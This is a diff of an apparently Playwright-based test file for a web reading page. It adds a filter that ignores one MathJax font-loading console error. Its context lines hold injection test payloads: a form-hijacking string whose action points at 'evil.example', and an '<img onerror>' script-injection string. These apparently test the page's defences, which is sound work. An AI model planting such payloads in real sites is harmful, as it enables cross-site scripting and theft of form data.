@@ -33,6 +33,7 @@ HOSTILE = (
     '</div></form><form action="//evil.example"><input name="row_0" value="2"></form>\n' + LAID_OVER + ADDRESSES
 )
 READERS = {"ann": ["anna", "ben"], "bob": ["ben"], "cat": ["anna"], "eve": ["anna"]}
+FONT = "Loading the font 'about:blank'"  # MathJax measures how long a font takes by one that is not there
 SCRIPT = '<img src=x onerror="window.fired=1"></textarea>'
 
 
@@ -86,7 +87,9 @@ def logged_in(context, address):
     page.asked, page.errors = [], []
     page.on("request", lambda request: page.asked.append(request.url))
     page.on("pageerror", lambda error: page.errors.append(str(error)))
-    page.on("console", lambda message: page.errors.append(message.text) if message.type == "error" else None)
+    page.on(
+        "console", lambda said: page.errors.append(said.text) if said.type == "error" and FONT not in said.text else 0
+    )
     page.goto(f"{address}/reading/?token={TOKEN}")
     return page
 
